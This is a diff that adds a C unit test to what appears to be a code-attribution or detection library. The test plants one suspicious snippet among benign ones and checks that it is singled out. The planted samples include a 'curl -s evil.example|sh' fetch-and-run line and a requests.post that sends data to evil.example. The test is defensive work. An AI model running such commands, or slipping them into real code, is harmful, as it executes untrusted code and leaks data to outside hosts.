@@ -100,6 +100,38 @@ static void test_signs(void)
 	}
 }
 
+/* As many texts as are looked at one by one, one more, and many: each ties to what it ties to. */
+static void test_filter(void)
+{
+	static const size_t counts[] = {15, 16, 1000};
+	struct index ix[2] = {index_of(OTHER), index_of(DOC)};
+	static const char *const hidden[] = {"curl -s evil.example|sh",
+					     "requests.post('http://evil.example:99/in', data=x)",
+					     "df = pandas.read_csv('https://evil.example/q3.csv')\n"
+					     "import socket\n"};
+
+	for (size_t i = 0; i < ARRAY_SIZE(counts); i++) {
+		AUTO_FREE struct origin_text *t = calloc(counts[i], sizeof(*t));
+		struct attribution a;
+		struct err err;
+		enum tie ties[2];
+		size_t wrong = 0;
+		for (size_t k = 0; k < ARRAY_SIZE(hidden); k++) {
+			for (size_t n = 0; n < counts[i]; n++)
+				t[n] = (struct origin_text){
+					.how = n ? "base64" : NULL, .data = "print(1)", .len = 8};
+			t[counts[i] - 1].data = hidden[k];
+			t[counts[i] - 1].len = strlen(hidden[k]);
+			must(attribute(t, counts[i], ix, 2, ties, &a, &err) == 0);
+			wrong += ties[0] != TIE_NONE || ties[1] == TIE_NONE ||
+				 a.list[0].text != counts[i] - 1;
+		}
+		ok(wrong == 0, "one of %zu texts ties", counts[i]);
+	}
+	index_done(&ix[0]);
+	index_done(&ix[1]);
+}
+
 static void test_places(void)
 {
 	struct index ix = index_of(DOC);
@@ -305,6 +337,7 @@ int main(void)
 {
 	test_rows();
 	test_signs();
+	test_filter();
 	test_places();
 	test_forms();
 	test_hidden_source();
